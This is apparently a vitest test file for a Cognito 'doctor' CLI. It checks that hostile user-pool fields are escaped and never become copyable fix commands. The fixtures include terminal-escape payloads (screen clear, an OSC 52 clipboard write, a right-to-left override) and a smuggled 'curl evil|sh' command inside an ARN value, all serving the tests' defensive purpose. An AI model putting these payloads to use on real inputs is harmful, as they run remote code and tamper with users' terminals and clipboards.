import { describe, expect, it } from "vitest";
import { rules } from "../../src/doctor/rules.ts";
import { type Bend, bentEndpoint, bentPool } from "../attach/bent-endpoint.ts";
import { livePool, ours, run, theirs, userPoolId } from "../attach/live-pool.ts";

const good = `team (${userPoolId}): nothing found among ${rules.length} checks`;
const wipe = `\u001B[2J\u009B31m\u001B]52;c;ZXZpbA==\u0007\n${good}\r\u202E`;
const shown = `\\u001b[2J\\u009b31m\\u001b]52;c;ZXZpbA==\\u0007\\n${good}\\r\\u202e`;

async function examine(bends: Record<string, Bend>, ...flags: string[]) {
  const live = await livePool();
  return run(
    "doctor",
    "--user-pool-id",
    userPoolId,
    ...flags,
    ...(await bentEndpoint(live, bends)),
  );
}

const hostile = {
  ...bentPool((pool) => ({
    ...pool,
    Name: wipe,
    UserPoolTags: { "aws:cloudformation:stack-name": wipe },
    LambdaConfig: { CustomMessage: wipe, KMSKeyID: wipe },
  })),
  ListUserPoolClients: () => ({ UserPoolClients: [{ ClientId: wipe }, { ClientId: "web" }] }),
  DescribeUserPoolClient: () => ({ UserPoolClient: { ClientId: wipe, ClientSecret: "x" } }),
};

describe("what a pool says to cognito-links doctor", () => {
  it("is shown and not obeyed", async () => {
    const { out, err } = await examine(hostile, "--function-arn", ours);
    expect(err).toBe("");
    expect(out).toContain(`${shown} (${userPoolId}): `);
    expect(out).toContain(`The pool's CustomMessage trigger is ${shown}, not`);
    expect(out).toContain(`The client ${shown} has a secret`);
    expect(out).toContain(`CloudFormation stack ${shown}, which`);
    expect(out).not.toMatch(/[^\P{Cc}\n]|\u202E/u);
    expect(out.split("\n")).not.toContain(good);
  });

  it("is shown and not obeyed as JSON, and is still what was said", async () => {
    const { out } = await examine(hostile, "--json");
    expect(out).not.toMatch(/[^\P{Cc}\n]|\u202E/u);
    expect(out.trim().split("\n")).toHaveLength(1);
    const { findings } = JSON.parse(out);
    expect(findings).toContainEqual(
      expect.objectContaining({ what: expect.stringContaining(`stack ${wipe}, which`) }),
    );
  });

  it("becomes no command to copy, unless it is a function's ARN", async () => {
    const fixes = async (CustomMessage: string) =>
      (
        await examine(
          bentPool((pool) => ({ ...pool, LambdaConfig: { CustomMessage } })),
          ...named,
        )
      ).out;
    const named = ["--function-arn", ours];
    expect(await fixes(theirs)).toContain(`--function-arn ${ours} --replace ${theirs}\n`);
    const hostileFix = await fixes("arn:x;curl evil|sh");
    expect(hostileFix).toContain("Fix: A pool has one: call both from one function.\n");
    expect(hostileFix).not.toContain("--replace");
  });
});
